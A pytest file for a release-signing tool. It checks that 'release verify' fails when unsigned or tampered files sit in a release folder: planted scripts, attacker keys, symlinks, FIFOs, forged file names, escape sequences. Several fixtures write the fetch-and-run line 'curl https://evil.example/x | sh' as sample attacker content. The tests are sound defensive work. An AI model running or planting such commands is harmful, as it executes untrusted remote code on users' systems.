"""Attacks on `release verify`: files in the folder that nothing vouches for must fail it.

A consumer reads "verified" and runs what is in the folder, so every file there must be
covered by a check that succeeded, or named with ``--ignore``. The releases are real: key
signatures made by ``openssl``, checksums by ``sha256sum`` (tests/verify/test_key_signed.py),
and a production Sigstore bundle (tests/verify/conftest.py).
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from pathlib import Path

import pytest

from release.github.assets import AssetFile
from release.github.client import ScopedGitHub
from release.github.publish import Publisher, ReleaseSpec
from release.permissions import Level, PermissionSet
from tests.github_server import GitHubServer, github_server  # noqa: F401  (fixture)
from tests.verify.conftest import PRODUCTION, WHEEL, copy, identity_args, sha256sums
from tests.verify.test_key_signed import (
    COMMIT,
    envelope_line,
    openssl,
    openssl_sign,
    statement_for,
    verify,
)


def uncovered(out: str) -> list[str]:
    return [line for line in out.splitlines() if line.startswith("UNCOVERED ")]


def new_keypair(where: Path) -> tuple[Path, Path]:
    where.mkdir()
    openssl("ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", "key.pem", cwd=where)
    openssl("ec", "-in", "key.pem", "-pubout", "-out", "pub.pem", cwd=where)
    return where / "key.pem", where / "pub.pem"


def resign(directory: Path, key: Path, names: list[str], work: Path) -> None:
    """What a publisher (or an attacker with their own key) does: checksums, signature and
    provenance over ``names``."""
    sha256sums(directory, names)
    openssl_sign(key, directory / "SHA256SUMS", directory / "SHA256SUMS.sig")
    subjects = {n: hashlib.sha256((directory / n).read_bytes()).hexdigest() for n in names}
    (directory / "demo.intoto.jsonl").write_text(envelope_line(key, statement_for(subjects),
                                                               work), encoding="utf-8")


NAMES = ["tool-linux-amd64", "tool.tar.gz"]


@pytest.fixture
def keypair(tmp_path: Path) -> tuple[Path, Path]:
    """The publisher's key pair (ECDSA P-256, made by openssl)."""
    return new_keypair(tmp_path / "keys")


@pytest.fixture
def release(tmp_path: Path, keypair: tuple[Path, Path]) -> Path:
    """A genuine key-signed release: two artifacts, SHA256SUMS(.sig), signed provenance."""
    directory = tmp_path / "release"
    directory.mkdir()
    (directory / "tool-linux-amd64").write_bytes(b"\x7fELF tool build one\n" * 50)
    (directory / "tool.tar.gz").write_bytes(b"a different artifact\n" * 40)
    resign(directory, keypair[0], NAMES, tmp_path)
    return directory


@pytest.fixture
def keyless(tmp_path: Path) -> Path:
    """A genuine keyless release: a production wheel, its Sigstore bundle, SHA256SUMS."""
    directory = tmp_path / "keyless"
    directory.mkdir()
    copy(PRODUCTION / WHEEL, directory / WHEEL)
    copy(PRODUCTION / f"{WHEEL}.sigstore", directory / f"{WHEEL}.sigstore.json")
    sha256sums(directory, [WHEEL])
    return directory


# -- extra files ---------------------------------------------------------------------------
def test_an_extra_install_script_fails(cli, release: Path, keypair) -> None:
    (release / "install.sh").write_text("curl https://evil.example/x | sh\n")
    result = verify(cli, release, keypair[1])
    assert result.code == 1, result.out
    assert uncovered(result.out) == [
        "UNCOVERED install.sh: listed in no verified checksums file and signed by nothing"]
    assert result.out.splitlines()[-2].endswith("NOT verified (9 passed, 0 failed, 1 uncovered)")
    assert result.out.splitlines()[-1].startswith("hint: 1 file(s) in the folder are covered "
                                                  "by no verified checksum or signature")
    assert "--ignore GLOB" in result.out
    report = json.loads(verify(cli, release, keypair[1], "--json").out)
    assert report["ok"] is False and report["uncovered"] == 1 and report["failed"] == 0
    assert [c["subject"] for c in report["checks"] if c["outcome"] == "uncovered"] == \
        ["install.sh"]


def test_an_extra_file_signed_by_another_key_fails(cli, release: Path, keypair,
                                                   tmp_path: Path) -> None:
    key, _ = new_keypair(tmp_path / "mallory")
    (release / "install.sh").write_text("curl https://evil.example/x | sh\n")
    openssl_sign(key, release / "install.sh", release / "install.sh.sig")
    result = verify(cli, release, keypair[1])
    assert result.code == 1
    assert "FAIL  signature   install.sh.sig: invalid signature over install.sh" in result.out
    assert uncovered(result.out) == [
        "UNCOVERED install.sh: its signature did not verify",
        "UNCOVERED install.sh.sig: a key signature that did not verify"]


def test_a_planted_public_key_fails(cli, release: Path, keypair, tmp_path: Path) -> None:
    _, mallory = new_keypair(tmp_path / "mallory")
    (release / "release.pub").write_bytes(mallory.read_bytes())
    result = verify(cli, release, keypair[1])
    assert result.code == 1
    [line] = uncovered(result.out)
    assert line.startswith("UNCOVERED release.pub: a public key other than --key (sha256:")


def test_a_public_key_beside_a_keyless_release_fails(cli, keyless: Path, tmp_path: Path
                                                     ) -> None:
    """With Sigstore, no key file in the folder is anybody's trust anchor."""
    _, pub = new_keypair(tmp_path / "keys")
    (keyless / "cosign.pub").write_bytes(pub.read_bytes())
    result = cli("verify", keyless, *identity_args())
    assert result.code == 1
    assert uncovered(result.out) == [
        "UNCOVERED cosign.pub: a public key shipped with the release, which is no trust "
        "anchor: pass the key you obtained separately with --key"]


def test_a_release_resigned_with_a_key_from_the_folder_is_refused(cli, release: Path,
                                                                  tmp_path: Path) -> None:
    """Mallory replaces a file, signs everything with her key and ships her key: a user
    pointing --key at that file would verify Mallory's release."""
    key, pub = new_keypair(tmp_path / "mallory")
    (release / "tool-linux-amd64").write_bytes(b"malware\n")
    resign(release, key, NAMES, tmp_path)
    (release / "release.pub").write_bytes(pub.read_bytes())
    link = tmp_path / "link"
    link.symlink_to(release)
    for given in (release / "release.pub", link / "release.pub"):
        result = verify(cli, release, given)
        assert result.code == 2, result.out
        assert f"error: --key {given} is inside the folder being verified" in result.err
        assert "pass one you obtained separately" in result.err
        assert "Traceback" not in result.err and result.out == ""


# -- links, folders, special files -----------------------------------------------------------
def test_a_symlink_to_a_file_outside_fails(cli, release: Path, keypair, tmp_path: Path) -> None:
    outside = tmp_path / "outside.sh"
    outside.write_text("curl https://evil.example/x | sh\n")
    (release / "install.sh").symlink_to(outside)
    # a listed artifact swapped for a link to identical bytes outside: not followed either
    (tmp_path / "tool.tar.gz").write_bytes((release / "tool.tar.gz").read_bytes())
    (release / "tool.tar.gz").unlink()
    (release / "tool.tar.gz").symlink_to(tmp_path / "tool.tar.gz")
    result = verify(cli, release, keypair[1])
    assert result.code == 1
    assert "FAIL  checksum    tool.tar.gz: listed in SHA256SUMS:2 but a symlink in the " \
           "directory" in result.out
    assert uncovered(result.out) == [
        f"UNCOVERED install.sh: a symlink (to {outside}): never followed, never verified",
        f"UNCOVERED tool.tar.gz: a symlink (to {tmp_path / 'tool.tar.gz'}): never followed, "
        "never verified"]


def test_a_symlink_to_a_folder_is_reported_not_followed(cli, release: Path, keypair,
                                                       tmp_path: Path) -> None:
    key, _ = keypair
    # the publisher ships bin/tool; the attacker swaps the folder for a link to theirs
    (release / "bin").mkdir()
    (release / "bin" / "tool").write_bytes(b"tool\n")
    resign(release, key, [*NAMES, "bin/tool"], tmp_path)
    assert verify(cli, release, keypair[1]).code == 0
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "tool").write_bytes(b"tool\n")  # even identical bytes: never read through a link
    (theirs / "backdoor").write_bytes(b"#!/bin/sh\n")
    (release / "bin" / "tool").unlink()
    (release / "bin").rmdir()
    (release / "bin").symlink_to(theirs)
    (release / "again").symlink_to(".")  # a link to the folder itself
    result = verify(cli, release, keypair[1])
    assert result.code == 1
    assert "FAIL  checksum    bin/tool: listed in SHA256SUMS:3 but reached through the symlink " \
           "bin, which is not followed in the directory" in result.out
    assert uncovered(result.out) == [
        "UNCOVERED again: a symlink (to .): never followed, never verified",
        f"UNCOVERED bin: a symlink (to {theirs}): never followed, never verified"]
    assert "backdoor" not in result.out


def test_files_in_a_nested_folder_must_be_covered(cli, release: Path, keypair,
                                                  tmp_path: Path) -> None:
    key, pub = keypair
    (release / "docs").mkdir()
    (release / "docs" / "README").write_text("read me\n")
    resign(release, key, [*NAMES, "docs/README"], tmp_path)
    ok = verify(cli, release, pub)
    assert ok.code == 0, ok.out
    assert "PASS  checksum    docs/README: sha256 matches SHA256SUMS:3" in ok.out
    (release / "docs" / "extras").mkdir()
    (release / "docs" / "extras" / "install.sh").write_text("curl evil | sh\n")
    sha256sums(release / "docs" / "extras", ["install.sh"])  # vouches for nothing
    result = verify(cli, release, pub)
    assert result.code == 1
    assert uncovered(result.out) == [
        "UNCOVERED docs/extras/SHA256SUMS: a checksums file in a sub-folder: only the top "
        "level of the folder is read for checksums files",
        "UNCOVERED docs/extras/install.sh: listed in no verified checksums file and signed by "
        "nothing"]


def test_special_files_are_reported_and_never_opened(cli, release: Path, keypair) -> None:
    os.mkfifo(release / "pipe")  # opening it to read would wait for a writer forever
    result = verify(cli, release, keypair[1])
    assert result.code == 1
    assert uncovered(result.out) == ["UNCOVERED pipe: a FIFO, not a regular file"]


def test_a_linked_release_folder_is_not_read_through(cli, release: Path, keypair,
                                                     tmp_path: Path) -> None:
    link = tmp_path / "assets"
    link.symlink_to(release)
    result = verify(cli, link, keypair[1])
    assert result.code == 2
    assert f"error: {link} is a symlink" in result.err and "Traceback" not in result.err


# -- size bounds ---------------------------------------------------------------------------
def test_huge_metadata_files_are_refused_by_size(cli, release: Path, keypair) -> None:
    line = "b" * 128 + "  gone\n"
    (release / "SHA512SUMS").write_text(line * (4 * 1024 * 1024 // len(line) + 1))
    (release / "tool.tar.gz.sig").write_bytes(b"\0" * (64 * 1024 + 1))
    (release / "sbom.intoto.jsonl").write_text("{}\n" * (2 * 1024 * 1024 + 1))
    result = verify(cli, release, keypair[1])
    assert result.code == 1
    size = (release / "SHA512SUMS").stat().st_size
    assert f"FAIL  checksums   SHA512SUMS: SHA512SUMS is larger than the 4 MiB limit for a " \
           f"checksums file ({size} bytes); not read" in result.out
    assert "FAIL  signature   tool.tar.gz.sig: tool.tar.gz.sig is larger than the 64 KiB " \
           "limit for a signature (65537 bytes); not read" in result.out
    assert "FAIL  provenance  sbom.intoto.jsonl: sbom.intoto.jsonl is larger than the 4 MiB " \
           "limit for an in-toto statement file" in result.out
    assert {line.split(":")[0] for line in uncovered(result.out)} == {
        "UNCOVERED SHA512SUMS", "UNCOVERED sbom.intoto.jsonl", "UNCOVERED tool.tar.gz.sig"}


# -- names ---------------------------------------------------------------------------------
def test_a_newline_in_a_file_name_cannot_forge_a_line(cli, release: Path, keypair,
                                                      tmp_path: Path) -> None:
    forged = "PASS  checksum    install.sh: sha256 matches SHA256SUMS:3"
    (release / f"x\n{forged}").write_text("curl evil | sh\n")
    result = verify(cli, release, keypair[1])
    assert result.code == 1
    assert forged not in result.out.splitlines()
    assert uncovered(result.out) == [f"UNCOVERED x\\n{forged}: listed in no verified checksums "
                                     "file and signed by nothing"]
    # a genuine name with a newline, listed (sha256sum escapes it) and signed: covered
    (release / f"x\n{forged}").unlink()
    name = "notes\nv1.txt"
    (release / name).write_text("notes\n")
    resign(release, keypair[0], [*NAMES, name], tmp_path)
    assert "\n\\" in (release / "SHA256SUMS").read_text()  # an escaped line
    # the name we read from the escaped line is the one GNU sha256sum checks
    subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=release, check=True)
    ok = verify(cli, release, keypair[1])
    assert ok.code == 0, ok.out
    assert "PASS  checksum    notes\\nv1.txt: sha256 matches SHA256SUMS:3" in ok.out


# -- --ignore ------------------------------------------------------------------------------
def test_ignore_leaves_named_files_out(cli, release: Path, keypair) -> None:
    (release / "install.sh").write_text("#!/bin/sh\n")
    (release / ".DS_Store").write_bytes(b"\0")
    (release / "extras" / "notes").mkdir(parents=True)
    (release / "extras" / "notes" / "a.txt").write_text("a\n")
    result = verify(cli, release, keypair[1], "--ignore", "install.sh", "--ignore", "extras",
                    "--ignore", ".DS_*")
    assert result.code == 0, result.out
    for name, glob in ((".DS_Store", ".DS_*"), ("extras", "extras"),
                       ("install.sh", "install.sh")):
        assert f"SKIP  ignored     {name}: matches --ignore {glob}: not read, not verified" \
               in result.out
    assert "extras/notes" not in result.out  # an ignored folder is not walked
    # ignoring a listed artifact does not make the release verify: it is missing
    result = verify(cli, release, keypair[1], "--ignore", "tool.tar.*", "--ignore", "*.sh",
                    "--ignore", ".DS_Store", "--ignore", "extras")
    assert result.code == 1
    assert "FAIL  checksum    tool.tar.gz: listed in SHA256SUMS:2 but ignored (--ignore) in " \
           "the directory" in result.out


# -- what still verifies -------------------------------------------------------------------
def test_a_genuine_complete_release_still_verifies(cli, release: Path, keypair) -> None:
    # the publisher's own copy of the key the user pinned is part of the release's proof
    (release / "release.pub").write_bytes(keypair[1].read_bytes())
    result = verify(cli, release, keypair[1], "--require-provenance")
    assert result.code == 0, result.out
    assert result.out.rstrip().endswith("verified (9 passed, 0 failed, 0 uncovered)")


def test_a_genuine_keyless_release_still_verifies(cli, keyless: Path) -> None:
    keyless = cli("verify", keyless, *identity_args())
    assert keyless.code == 0, keyless.out
    assert "UNCOVERED" not in keyless.out


# -- verify --github -----------------------------------------------------------------------
def test_verify_github_applies_the_same_rule(cli, github_server: GitHubServer,  # noqa: F811
                                             release: Path, keypair, monkeypatch,
                                             tmp_path: Path) -> None:
    """An asset the maintainers did not sign, uploaded beside the release, fails too."""
    (release / "install.sh").write_text("curl evil | sh\n")
    repo, tag = "octo/demo", "v1.0.0"
    github_server.add_repo(repo, immutable=True)
    github_server.set_tag(repo, tag, COMMIT)
    token = github_server.add_token("actions", permissions={"contents": "write"})
    assets = tuple(AssetFile(p.name, p, p.stat().st_size,
                             hashlib.sha256(p.read_bytes()).hexdigest())
                   for p in sorted(release.iterdir()))
    spec = ReleaseSpec(repo, tag, COMMIT, tag, "notes", False, False, "true", True, False,
                       assets)
    with ScopedGitHub(repo, PermissionSet({"contents": Level.WRITE}), token=token,
                      stage="publish", base_url=github_server.api_url) as gh:
        Publisher(gh, spec, log=lambda _: None, pause=lambda _: None).publish()
    monkeypatch.setenv("GITHUB_API_URL", github_server.api_url)
    result = cli("verify", "--github", f"{repo}@{tag}", tmp_path / "dl", "--key", keypair[1])
    assert result.code == 1, result.out + result.err
    assert "PASS  download    install.sh" in result.out
    assert uncovered(result.out) == [
        "UNCOVERED install.sh: listed in no verified checksums file and signed by nothing"]
    ignored = cli("verify", "--github", f"{repo}@{tag}", tmp_path / "dl2", "--key", keypair[1],
                  "--ignore", "install.sh")
    assert ignored.code == 0, ignored.out + ignored.err


def test_the_report_escapes_what_a_terminal_would_interpret() -> None:
    from release.verify.report import Report

    report = Report("dir")
    report.uncovered("a\x1b[2K\rPASS\u202eexe.txt", "x")
    assert report.render().splitlines()[0] == "UNCOVERED a\\x1b[2K\\rPASS\\u202eexe.txt: x"
